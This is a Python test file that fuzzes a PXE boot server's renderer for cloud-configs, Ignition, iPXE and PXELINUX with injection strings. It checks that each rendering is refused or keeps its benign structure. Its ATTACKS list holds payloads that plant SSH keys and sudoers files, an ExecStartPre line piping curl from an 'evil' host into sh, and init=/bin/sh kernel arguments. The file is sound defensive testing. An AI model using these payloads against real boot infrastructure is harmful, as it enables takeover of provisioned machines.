"""No value can change the shape of what a machine runs (issue 16, items 1 and 2).

For every value someone other than the template's author can set (what a machine reports
on the boot network: ip, uuid, arch, platform; what an operator sets: labels, hostname,
profile and group metadata, cluster settings), hostile strings go through every output a
machine receives: both shipped cloud-configs, the Ignition config, the iPXE script (network
boot and boot from disk), the PXELINUX config and the kernel arguments. Each rendering
must be refused (:class:`RenderError`) or have the same structure as with a benign value:
the same keys, ``write_files`` paths, units, users, lines of each file and unit, iPXE and
PXELINUX commands and kernel arguments. Refusing everything would pass that, so a second
property holds the other side: values that are hostile to YAML only (``#``, ``---``,
``- path:``, ``|``, ``{{ }}``, U+2028 …) render, and come back unchanged.

This is a test of the renderer, below the edges: the HTTP API and the settings file refuse
most of these values before they get here (tests in test_web_boot, test_web_api,
test_config); here nothing stops them but the renderer itself.
"""

from __future__ import annotations

import json
import shlex
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import Any
from urllib.parse import unquote

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pxeserver.config import ClusterSettings
from pxeserver.errors import RenderError
from pxeserver.model import MAC, Node
from pxeserver.profiles import Decision, Group, Profile
from pxeserver.render import pxelinux
from pxeserver.render.cloudconfig import SAFE_LOADER
from pxeserver.render.templates import Renderer

from ..support.settings import make_settings

BASE = "http://192.0.2.1:8080"
BENIGN_NODE = Node(
    mac=MAC.parse("52:54:00:12:34:56"),
    hostname="node-007",
    uuid="6fb9d0e1-0000-4000-8000-00000000abcd",
    arch="x86_64",
    platform="pcbios",
    ip="192.0.2.17",
    labels={"rack": "r1"},
    token="tok-123",
)
# Kernel arguments that template every value a machine or an operator can set.
PROBE_ARGS = [
    "ip={{ node.ip }}",
    "uuid={{ node.uuid }}",
    "arch={{ node.arch }}",
    "platform={{ node.platform }}",
    "host={{ node.hostname }}",
    "fqdn={{ node.fqdn }}",
    "rack={{ node.labels.get('rack', '') }}",
    "fleet={{ cluster.fleet_metadata_csv }}",
    "meta={{ metadata.get('probe', '') }}",
    "pmeta={{ profile.metadata.get('probe', '') }}",
    "gmeta={{ group.metadata.get('probe', '') }}",
]
LINE_BREAKS = [
    "\n",
    "\r",
    "\r\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
]
# Known attacks, each as a suffix of a benign value and alone.
ATTACKS = [
    *(f"x{br}- path: /home/core/.ssh/authorized_keys" for br in LINE_BREAKS),
    # the ip= attack: no '/' in a scope ID, so the path is spelled with YAML escapes
    '"\n  - path: "\\x2fhome\\x2fcore\\x2f.ssh\\x2fauthorized_keys"\n'
    "    content: |\n      evil\n      x",
    "x\u2028write_files:\u2028  - path: /etc/sudoers.d/evil",
    "x\nExecStartPre=/bin/sh -c 'curl evil | sh'",
    'x"\nExecStartPre=/bin/sh -c evil\nX="',
    "x\ninitrd http://evil/initrd\nboot",
    "x\n  APPEND init=/bin/sh",
    "x init=/bin/sh",
    "x\tinit=/bin/sh",
    "x\u00a0init=/bin/sh",
    "x ||",
    "x${net0/ip}",
    'x"',
    "x'",
    "x\\",
    "x\\\n",
    "# comment",
    "x # comment",
    "---",
    "...",
    "- path: /etc/evil",
    "x: y",
    "{{ node.token }}",
    "{% raw %}",
    "|",
    "|\n  swallowed",
    ">",
    "> \n  swallowed",
    "|-",
    "[a, b]",
    "{a: b}",
    "&anchor",
    "*alias",
    "!!python/object:os.system",
    "%TAG ! tag:evil:",
    "@x",
    "`x`",
    "? x",
    " leading",
    "trailing ",
    "yes",
    "on",
    "null",
    "~",
    "0x1f",
    "1e5",
    "0644",
    "",
    "\x00",
    "\x1b[31m",
    "\ufeff",
    "\u202e",
    "\ud800",
    'fe80::1%"\n- x',
    "fe80::1%eth0",
    "a,b=c",
    "k=v",
]
# What YAML alone finds hostile and a file line carries as is: these must render (quoted)
# and come back unchanged, not be refused.
YAML_ONLY = [
    "#", "x # comment", "---", "...", "- path: /etc/evil", "x: y", "{{ node.token }}", "|",
    ">", "|-", "&anchor", "*alias", "!!python/object:os.system", "%TAG", "@x", "`x`", "? x",
    " leading", "trailing ", "yes", "on", "null", "~", "0x1f", "1e5", "0644", "x'",
    "{% raw %}",
]  # fmt: skip


def corpus() -> list[str]:
    return sorted({*ATTACKS, *(f"r1{a}" for a in ATTACKS)})


# -- the values, and where each one enters -------------------------------------------------


def _profile_meta(s: Any, v: str) -> Any:
    return s, {"probe": v, "etcd_binary": v}, {}


def _group_meta(s: Any, v: str) -> Any:
    return s, {}, {"probe": v, "fleetd_binary": v}


def _cluster(s: Any, **changes: Any) -> Any:
    cluster: ClusterSettings = replace(s.cluster, **changes)
    return replace(s, cluster=cluster), {}, {}


Setter = Callable[[Node, Any, str], tuple[Node, Any, dict[str, Any], dict[str, Any]]]
FIELDS: dict[str, Setter] = {
    "ip": lambda n, s, v: (n.replace(ip=v), s, {}, {}),
    "uuid": lambda n, s, v: (n.replace(uuid=v), s, {}, {}),
    "arch": lambda n, s, v: (n.replace(arch=v), s, {}, {}),
    "platform": lambda n, s, v: (n.replace(platform=v), s, {}, {}),
    "hostname": lambda n, s, v: (n.replace(hostname=v), s, {}, {}),
    "label value": lambda n, s, v: (n.replace(labels={"rack": v}), s, {}, {}),
    "label name": lambda n, s, v: (n.replace(labels={v: "r1"}), s, {}, {}),
    "profile metadata": lambda n, s, v: (n, *_profile_meta(s, v)),
    "group metadata": lambda n, s, v: (n, *_group_meta(s, v)),
    "fleet metadata": lambda n, s, v: (n, *_cluster(s, fleet_metadata={"region": v})),
    "domain": lambda n, s, v: (n, *_cluster(s, domain=v)),
    "ssh key": lambda n, s, v: (n, *_cluster(s, ssh_authorized_keys=(v,))),
}
BENIGN = {
    "ip": "192.0.2.17",
    "uuid": "6fb9d0e1-0000-4000-8000-00000000abcd",
    "arch": "x86_64",
    "platform": "pcbios",
    "hostname": "node-007",
    "label value": "r1",
    "label name": "rack",
    "profile metadata": "bin/etcd",
    "group metadata": "bin/fleetd",
    "fleet metadata": "lab",
    "domain": "example.test",
    "ssh key": "ssh-ed25519 AAAAC3 op@example",
}


# -- structure: what must not change ---------------------------------------------------------


def _words(text: str) -> int:
    """How many arguments a shell-like reader (systemd, /bin/sh) sees; -1 if unbalanced."""
    try:
        return len(shlex.split(text))
    except ValueError:
        return -1


def _file_shape(text: str) -> Any:
    """A file's lines (a unit, fleet.conf, node.env): each line's key, its argument count,
    its quotes and backslashes. A value may change what follows ``=``, never the lines."""
    shape = []
    for line in text.split("\n"):
        key, sep, value = line.partition("=")
        shape.append((key if sep else "", _words(value), line.count('"'), line.count("\\")))
    return shape


def _scalar_shape(text: str) -> Any:
    """A one-line value that coreos-cloudinit writes into a file (``Environment="K=V"`` of
    a drop-in, authorized_keys): its line breaks, quotes and backslashes."""
    breaks = len(text.splitlines()) - 1 if text else 0
    broken = sum(1 for ch in text if unicodedata.category(ch) in ("Cc", "Zl", "Zp"))
    return ("scalar", breaks, broken, text.count('"'), text.count("\\"))


NAMED = {"path", "name", "command", "enabled", "permissions", "mode", "version"}
# Each an entry of authorized_keys: one line, whose own options may hold quotes.
KEY_LISTS = {"ssh_authorized_keys", "sshAuthorizedKeys", "ssh-authorized-keys"}


def _doc_shape(value: Any) -> Any:
    """Mappings by their keys, lists by their items, strings by :func:`_file_shape` when
    they are files and :func:`_scalar_shape` when they are one value; names and paths as
    they are (a path or unit name that changes is a different file or unit)."""
    if isinstance(value, dict):
        return {
            k: v if k in NAMED else [_scalar_shape(x)[:3] for x in v] if k in KEY_LISTS
            else _doc_shape(v)
            for k, v in value.items()
        }  # fmt: skip
    if isinstance(value, list):
        return [_doc_shape(v) for v in value]
    if isinstance(value, str):
        if value.startswith("data:,"):  # Ignition's file contents
            return ("data", _doc_shape(unquote(value[len("data:,") :])))
        return _file_shape(value) if "\n" in value else _scalar_shape(value)
    return type(value).__name__


def _fleet_metadata(doc: dict[str, Any]) -> Any:
    """fleet reads ``metadata`` as key=value,key=value: the pairs are structure."""
    meta = doc.get("coreos", {}).get("fleet", {}).get("metadata")
    if not isinstance(meta, str):
        return None
    return [pair.count("=") for pair in meta.split(",")]


def _script_shape(text: str) -> Any:
    """iPXE or PXELINUX: each command line's command and how many arguments it has; the
    kernel line's argument names. Comment lines are not commands, but there must be as
    many lines as there were."""
    shape = []
    for line in text.split("\n"):
        words = line.split()
        if not words or words[0].startswith("#"):
            shape.append("#" if words else "")
            continue
        names = [w.partition("=")[0] for w in words[1:]] if words[0] in ("kernel", "APPEND") else []
        shape.append((words[0], len(words), names))
    return shape


def render_all(r: Renderer, node: Node, pmeta: dict[str, Any], gmeta: dict[str, Any]) -> Any:
    """Every output for ``node``; each a structure, or the RenderError that refused it."""
    out: dict[str, Any] = {}
    group = Group("default", "x", {}, gmeta)

    def attempt(name: str, fn: Callable[[], Any]) -> None:
        try:
            out[name] = fn()
        except RenderError as exc:
            out[name] = RenderError(str(exc))
        except Exception as exc:  # noqa: BLE001 - a crash is a finding, reported by name
            out[name] = f"crashed: {type(exc).__name__}: {exc}"

    for template in ("coreos.yaml.j2", "flatcar.yaml.j2"):
        profile = Profile("cc", "k/vmlinuz", ("k/initrd",), cloud_config=template, metadata=pmeta)

        def cloud(profile: Profile = profile) -> Any:
            text = r.cloud_config(node, profile, group, BASE)
            doc = yaml.load(text, Loader=SAFE_LOADER)
            return _doc_shape(doc), _fleet_metadata(doc)

        attempt(template, cloud)
    ign = Profile("ign", "k/vmlinuz", ("k/initrd",), ignition="flatcar.ign.j2", metadata=pmeta)
    attempt("flatcar.ign.j2", lambda: _doc_shape(json.loads(r.ignition(node, ign, group, BASE))))
    probe = Profile("probe", "k/vmlinuz", ("k/initrd",), tuple(PROBE_ARGS), metadata=pmeta)
    decision = Decision("probe", group, "group default")
    # UEFI adds initrd= to the kernel line: both, unless the platform is the hostile value
    nodes = {
        "ipxe": node,
        **({"ipxe efi": node.replace(platform="efi")} if node.platform == "pcbios" else {}),
    }
    for name, at in nodes.items():
        attempt(name, lambda at=at: _script_shape(r.ipxe_script(at, probe, decision, BASE)))
    attempt("pxelinux", lambda: _script_shape(pxelinux.render(r, node, probe, decision, BASE)))
    disk = Profile("disk", "k/vmlinuz", install="disk", metadata=pmeta)
    installed = node.replace(installed="disk", installed_at=1.0e9)
    attempt("ipxe from disk", lambda: _script_shape(r.ipxe_script(installed, disk, decision, BASE)))
    attempt(
        "pxelinux from disk",
        lambda: _script_shape(pxelinux.render(r, installed, disk, decision, BASE)),
    )
    return out


@dataclass
class Rig:
    """A renderer and the settings it starts from; each rendering swaps in its own."""

    renderer: Renderer
    settings: Any
    benign: dict[str, dict[str, Any]] = field(default_factory=dict)

    def __repr__(self) -> str:  # hypothesis prints it with a failing example
        return "Rig()"

    def outputs(self, name: str, value: str) -> dict[str, Any]:
        node, s, pmeta, gmeta = FIELDS[name](BENIGN_NODE, self.settings, value)
        self.renderer.settings = s
        try:
            return render_all(self.renderer, node, pmeta, gmeta)
        finally:
            self.renderer.settings = self.settings

    def benign_outputs(self, name: str) -> dict[str, Any]:
        if name not in self.benign:
            found = self.outputs(name, BENIGN[name])
            refused = {k: v for k, v in found.items() if isinstance(v, RenderError)}
            assert not refused, f"benign {name} {BENIGN[name]!r} was refused: {refused}"
            self.benign[name] = found
        return self.benign[name]


@pytest.fixture(scope="module")
def rig(tmp_path_factory: pytest.TempPathFactory) -> Rig:
    settings = make_settings(tmp_path_factory.mktemp("hostile"))
    return Rig(Renderer(settings), settings)


def changed_shape(rig: Rig, name: str, got: dict[str, Any]) -> list[str]:
    """The outputs whose structure changed from the benign one (a refusal is no change)."""
    want = rig.benign_outputs(name)
    return [
        output
        for output, shape in got.items()
        if not isinstance(shape, RenderError) and shape != want[output]
    ]


# -- the properties ----------------------------------------------------------------------------


@pytest.mark.parametrize("field", sorted(FIELDS))
def test_no_hostile_value_changes_the_shape_of_any_output(rig: Rig, field: str) -> None:
    failures = []
    rendered: dict[str, int] = {}
    for value in corpus():
        got = rig.outputs(field, value)
        changed = changed_shape(rig, field, got)
        if changed:
            failures.append(f"{value!r} changed {', '.join(changed)}")
        for name, shape in got.items():
            rendered[name] = rendered.get(name, 0) + (not isinstance(shape, RenderError))
    # the other side: refusing every value would keep every shape
    assert all(rendered.values()), f"{field}: some output refused every value: {rendered}"
    assert not failures, f"{field}: {len(failures)} of {len(corpus())} values:\n" + "\n".join(
        failures
    )


ALPHABET = [b for b in LINE_BREAKS if len(b) == 1] + list(" \t\"'\\#-:|>{}%$=,/[]&*!ab1\x00\u00a0")
HOSTILE_TEXT = st.text(alphabet=st.sampled_from(ALPHABET), max_size=24)


@settings(
    max_examples=150,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(field=st.sampled_from(sorted(FIELDS)), value=HOSTILE_TEXT)
def test_generated_values_never_change_the_shape(rig: Rig, field: str, value: str) -> None:
    assert changed_shape(rig, field, rig.outputs(field, value)) == [], (field, value)


@pytest.mark.parametrize("field", ["label value", "fleet metadata"])
def test_values_hostile_only_to_yaml_are_quoted_not_refused(rig: Rig, field: str) -> None:
    """The positive side: a value is carried, whatever YAML would make of it raw: as a
    quoted scalar in coreos.fleet, and in fleet.conf's quoted line in the flatcar configs."""
    for value in YAML_ONLY:
        node, s, _, _ = FIELDS[field](BENIGN_NODE, rig.settings, value)
        wanted = f"rack={value}" if field == "label value" else f"rack=r1,region={value}"
        rig.renderer.settings = s
        try:
            coreos = Profile("c", "k", cloud_config="coreos.yaml.j2")
            text = rig.renderer.cloud_config(node, coreos, None, BASE)
            flatcar = Profile("f", "k", cloud_config="flatcar.yaml.j2")
            files = yaml.load(rig.renderer.cloud_config(node, flatcar, None, BASE), SAFE_LOADER)
            ign = Profile("i", "k", ignition="flatcar.ign.j2")
            config = json.loads(rig.renderer.ignition(node, ign, None, BASE))
        finally:
            rig.renderer.settings = rig.settings
        assert yaml.load(text, Loader=SAFE_LOADER)["coreos"]["fleet"]["metadata"] == wanted
        conf = {f["path"]: f["content"] for f in files["write_files"]}["/etc/fleet/fleet.conf"]
        assert f'\nmetadata="{wanted}"\n' in conf, value
        sources = {f["path"]: f["contents"]["source"] for f in config["storage"]["files"]}
        assert f'\nmetadata="{wanted}"\n' in unquote(sources["/etc/fleet/fleet.conf"]), value
